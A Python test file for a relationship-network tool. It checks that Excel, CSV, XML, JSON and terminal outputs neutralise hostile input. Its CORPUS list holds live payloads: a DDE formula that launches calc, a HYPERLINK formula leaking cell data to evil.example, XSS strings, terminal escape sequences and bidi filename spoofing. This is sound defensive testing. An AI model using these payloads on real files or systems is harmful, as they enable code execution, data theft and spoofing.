"""Every writer, fed hostile strings in every text field (ids included), writes files a
spreadsheet cannot run, XML parsers can read, and terminal output that cannot control the
terminal; and what relgraph writes, it reads back the same."""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from pathlib import Path

import networkx as nx
import openpyxl
import pandas as pd
import pytest
from typer.testing import CliRunner

import relgraph as rg
from relgraph.cli import app
from relgraph.errors import OutputError
from relgraph.export import export_graph
from relgraph.io.encode import is_formula_like, xml_text
from relgraph.io.excel_format import MAX_CELL_TEXT, write_workbook

runner = CliRunner()

LONG = "A" * 40_000
CORPUS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "\t=2+2",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "[click](javascript:alert(1))",
    "![x](http://evil.example/p.png)",
    "\x1b]0;pwned\x07 title",
    "\x1b[31mred\x1b[0m \x1b[2J",
    "\x9b31m eight-bit",
    "Ann\x0bLee (Word's line break)",
    "bell\x07 and del\x7f",
    "evil\u202etxt.exe \u2066isolate\u2069",
    "zero\u200bwidth\u200d\ufeff",
    "王总｜数字化转型办公室",
    "a|b\nsecond line\r\nthird",
]
# ids: no list separators (; , |), no blanks at the ends (the loader trims those)
ID_PREFIX = ['=HYPERLINK("x")', "@SUM(A1)", "-2+3", "<b>", "\u202e", "\x1b[31m", "z\u200b"]
TERMINAL_UNSAFE = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


def _pick(i: int) -> str:
    return CORPUS[i % len(CORPUS)]


def hostile_frames(*, long_text: bool = True) -> dict[str, pd.DataFrame]:
    """The tiny network with a hostile string in every text field and hostile ids."""
    f = rg.datasets.tiny().to_frames()
    pid = {p: ID_PREFIX[i % len(ID_PREFIX)] + p for i, p in enumerate(f["people"]["id"])}
    people = f["people"].copy()
    people["id"] = people["id"].map(pid)
    for j, col in enumerate(("name", "name_en", "title", "department")):
        people[col] = [
            f"{n} {_pick(i + j)}" if col == "name" else _pick(i + j)
            for i, n in enumerate(f["people"]["name"])
        ]
    orgs = f["orgs"].copy()
    orgs["name"] = [f"{n} {_pick(i + 3)}" for i, n in enumerate(orgs["name"])]
    orgs["name_en"] = [_pick(i + 7) for i in range(len(orgs))]
    ties = f["ties"].copy()
    ties["source"], ties["target"] = ties["source"].map(pid), ties["target"].map(pid)
    ties["note"] = [_pick(i + 5) for i in range(len(ties))]
    if long_text:
        ties.loc[0, "note"] = LONG
    opps = f["opportunities"].copy()
    opps["name"] = _pick(1)
    roles = f["roles"].copy()
    roles["person"] = roles["person"].map(pid)
    affiliations = pd.DataFrame(
        {"person": [pid["p1"], pid["u2"]], "affiliation": [_pick(2), _pick(2)], "kind": "club"}
    )
    interactions = pd.DataFrame(
        {
            "date": ["2026-01-05", "2026-01-06"],
            "our_person": [pid["u1"], pid["u2"]],
            "their_people": [pid["p1"], f"{pid['p2']};{pid['p3']}"],
            "kind": ["meeting", "call"],
            "subject": [_pick(10), _pick(11)],
            "note": [_pick(12), _pick(13)],
        }
    )
    return f | {
        "people": people,
        "orgs": orgs,
        "ties": ties,
        "opportunities": opps,
        "roles": roles,
        "affiliations": affiliations,
        "interactions": interactions,
    }


@pytest.fixture(scope="module")
def hostile() -> rg.RelationshipNetwork:
    return rg.RelationshipNetwork.from_frames(**hostile_frames(), today=pd.Timestamp("2026-02-01"))


@pytest.fixture(scope="module")
def hostile_short() -> rg.RelationshipNetwork:
    frames = hostile_frames(long_text=False)
    return rg.RelationshipNetwork.from_frames(**frames, today=pd.Timestamp("2026-02-01"))


@pytest.fixture(scope="module")
def account(tmp_path_factory: pytest.TempPathFactory, hostile: rg.RelationshipNetwork) -> Path:
    return hostile.to_csv(tmp_path_factory.mktemp("hostile") / "acct")


def assert_no_live_formula(path: Path) -> None:
    with zipfile.ZipFile(path) as book:
        for name in book.namelist():
            if name.startswith("xl/worksheets/"):
                assert not re.search(rb"<(\w+:)?f[\s>/]", book.read(name)), name
    wb = openpyxl.load_workbook(path)
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate)
                if isinstance(cell.value, str):
                    assert len(cell.value) <= MAX_CELL_TEXT
                    if is_formula_like(cell.value):  # stored as text, and kept so on edit
                        assert cell.data_type == "s" and cell.quotePrefix, cell.coordinate


def assert_csv_cells_safe(text: str) -> int:
    n = 0
    for row in csv.reader(io.StringIO(text)):
        for cell in row:
            assert not is_formula_like(cell) or cell.startswith("'"), cell
            n += 1
    return n


def assert_same_tables(a: rg.RelationshipNetwork, b: rg.RelationshipNetwork) -> None:
    for name in ("orgs", "people", "ties", "opportunities", "roles", "affiliations"):
        pd.testing.assert_frame_equal(getattr(a, name), getattr(b, name), obj=name)


def test_network_workbook_has_no_formula_and_reads_back(
    hostile_short: rg.RelationshipNetwork, tmp_path: Path
) -> None:
    out = hostile_short.to_excel(tmp_path / "acct.xlsx")
    assert_no_live_formula(out)
    assert_same_tables(hostile_short, rg.load(out))


def test_network_workbook_refuses_text_excel_cannot_hold(
    hostile: rg.RelationshipNetwork, tmp_path: Path
) -> None:
    out = tmp_path / "acct.xlsx"
    out.write_bytes(b"the previous workbook")
    with pytest.raises(OutputError, match="more than an Excel cell holds"):
        hostile.to_excel(out)
    assert out.read_bytes() == b"the previous workbook"
    assert [p.name for p in tmp_path.iterdir()] == ["acct.xlsx"]


def test_formatted_workbook_cuts_long_text_visibly(
    hostile: rg.RelationshipNetwork, tmp_path: Path
) -> None:
    sheets = {name: hostile.to_frames()[name] for name in ("people", "ties", "orgs")}
    out = write_workbook(tmp_path / "report.xlsx", sheets, cover=(_pick(1), [(_pick(0), _pick(4))]))
    assert_no_live_formula(out)
    ws = openpyxl.load_workbook(out)["ties"]
    notes = [c.value for c in ws["G"][1:]]
    assert any(v and v.startswith("AAAA") and v.endswith("more than an Excel cell holds]")
               for v in notes)  # fmt: skip
    back = pd.read_excel(out, sheet_name="people", dtype=object, keep_default_na=False)
    assert len(back) == len(hostile.people)


def test_csv_folder_is_escaped_and_reads_back(
    hostile: rg.RelationshipNetwork, tmp_path: Path
) -> None:
    folder = hostile.to_csv(tmp_path / "acct")
    for f in folder.glob("*.csv"):
        assert_csv_cells_safe(f.read_text(encoding="utf-8"))
    assert "'=HYPERLINK" in (folder / "people.csv").read_text(encoding="utf-8")
    assert_same_tables(hostile, rg.load(folder))


@pytest.mark.parametrize("fmt", ["gexf", "graphml", "json"])
def test_graph_exports_parse_back(
    hostile: rg.RelationshipNetwork, tmp_path: Path, fmt: str
) -> None:
    out = export_graph(hostile, tmp_path / f"g.{fmt}", opportunity="O1", include_sensitive=True)
    if fmt == "json":
        g = nx.node_link_graph(json.loads(out.read_text(encoding="utf-8")), edges="links")
        clean = str
    else:
        g = nx.read_gexf(out) if fmt == "gexf" else nx.read_graphml(out)
        clean = xml_text
    assert g.number_of_nodes() == len(hostile.people)
    assert g.number_of_edges() == len(hostile.ties)
    names = {str(d.get("name", "")) for _, d in g.nodes(data=True)}
    assert names == {clean(n) for n in hostile.people["name"]}
    if fmt != "json":  # markup is data in JSON; in XML it must be escaped
        text = out.read_text(encoding="utf-8")
        assert "<script>" not in text and "<img" not in text


def test_routes_csv_is_escaped(account: Path, tmp_path: Path) -> None:
    net = rg.load(account)
    target = net.people["id"].iloc[0]
    out = tmp_path / "routes.csv"
    result = runner.invoke(app, ["routes", str(account), "--to", target, "--csv", str(out)])
    assert result.exit_code == 0, result.output
    assert assert_csv_cells_safe(out.read_text(encoding="utf-8")) > 0
    assert len(pd.read_csv(out)) >= 1
    bulk = tmp_path / "bulk.csv"
    result = runner.invoke(app, ["routes", str(account), "--opportunity", "O1", "--csv", str(bulk)])
    assert result.exit_code == 0, result.output
    assert_csv_cells_safe(bulk.read_text(encoding="utf-8"))


def _commands(account: Path, tmp: Path, net: rg.RelationshipNetwork) -> list[list[str]]:
    target = net.people["id"].iloc[0]
    ours = net.our_people()[0]
    connections = tmp / "Connections.csv"
    connections.write_text(
        "First Name,Last Name,URL,Email Address,Company,Position,Connected On\n"
        f'"{_pick(10)}","{_pick(6)}",,,"{_pick(0)}","{_pick(11)}",01 Jan 2024\n',
        encoding="utf-8",
    )
    return [
        ["validate", str(account)],
        ["influence", str(account)],
        ["influence", str(account), "--json"],
        ["targets", str(account)],
        ["targets", str(account), "--json"],
        ["routes", str(account), "--to", target],
        ["routes", str(account), "--to", target, "--json"],
        ["routes", str(account), "--opportunity", "O1"],
        ["coverage", str(account), "--as-of", "2026-02-01"],
        ["activity", str(account)],
        ["diff", str(account), str(account)],
        ["export", str(account), "--out", str(tmp / "n.gexf")],
        ["map", str(account), "--out", str(tmp / "m.html")],
        ["plan", str(account), "--xlsx", str(tmp / "p.xlsx"), "--md", str(tmp / "p.md")],
        [
            "import",
            "linkedin",
            str(account),
            "--connections",
            str(connections),
            "--owner",
            ours,
            "--out",
            str(tmp / "out"),
        ],  # fmt: skip
    ]


def test_terminal_output_cannot_control_the_terminal(account: Path, tmp_path: Path) -> None:
    net = rg.load(account)
    for args in _commands(account, tmp_path, net):
        result = runner.invoke(app, args)
        assert result.exit_code == 0, (args, result.output, result.exception)
        bad = TERMINAL_UNSAFE.findall(result.output)
        assert not bad, (args[0], bad[:5])
        if "--json" in args:
            json.loads(result.stdout)  # still valid JSON, with the values escaped


def test_validation_problems_print_safely(tmp_path: Path) -> None:
    folder = tmp_path / "bad"
    folder.mkdir()
    (folder / "orgs.csv").write_text("id,name,kind\nA,Acme,customer\n", encoding="utf-8")
    n = len(CORPUS)
    pd.DataFrame(
        {
            "id": [f"{_pick(i)}x" for i in range(n)],
            "name": [_pick(i + 1) for i in range(n)],
            "org": [f"B{_pick(i)}" for i in range(n)],
        }
    ).to_csv(folder / "people.csv", index=False)
    result = runner.invoke(app, ["validate", str(folder)])
    assert result.exit_code == 1
    assert "unknown_reference" in result.output
    assert not TERMINAL_UNSAFE.findall(result.output)
